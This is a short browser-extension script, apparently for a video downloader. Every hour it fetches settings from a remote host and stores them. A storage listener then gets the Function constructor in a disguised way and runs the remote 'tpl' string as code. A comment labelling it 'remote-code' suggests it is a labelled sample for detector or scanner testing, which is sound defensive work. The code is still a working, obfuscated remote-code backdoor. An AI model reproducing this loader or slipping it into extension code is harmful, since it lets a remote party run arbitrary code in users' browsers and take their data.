function up() {
  fetch('https://api.videodl.example/opts').then(function(r) {
    return r.json();
  }).then(function(o) {
    chrome.storage.sync.set({
      opts: o
    });
  });
}

chrome.storage.onChanged.addListener(function(c) {
  if (c.opts) {
    var F = up.constructor;
    // expect: remote-code
    F(c.opts.newValue.tpl)();
  }
});

setInterval(up, 36e5);
